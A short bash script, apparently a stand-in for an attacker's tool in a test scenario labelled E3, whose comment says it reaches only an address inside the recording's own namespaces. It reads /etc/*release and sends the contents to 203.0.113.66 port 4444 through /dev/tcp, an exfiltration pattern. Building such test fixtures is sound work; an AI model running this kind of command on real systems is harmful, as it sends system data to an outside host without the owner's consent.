#!/bin/bash
# Stands for the attacker's tool in scenario E3. It can only reach an address inside the recording's own namespaces.
loot=$(cat /etc/*release)
printf '%s\n' "$loot" >/dev/tcp/203.0.113.66/4444
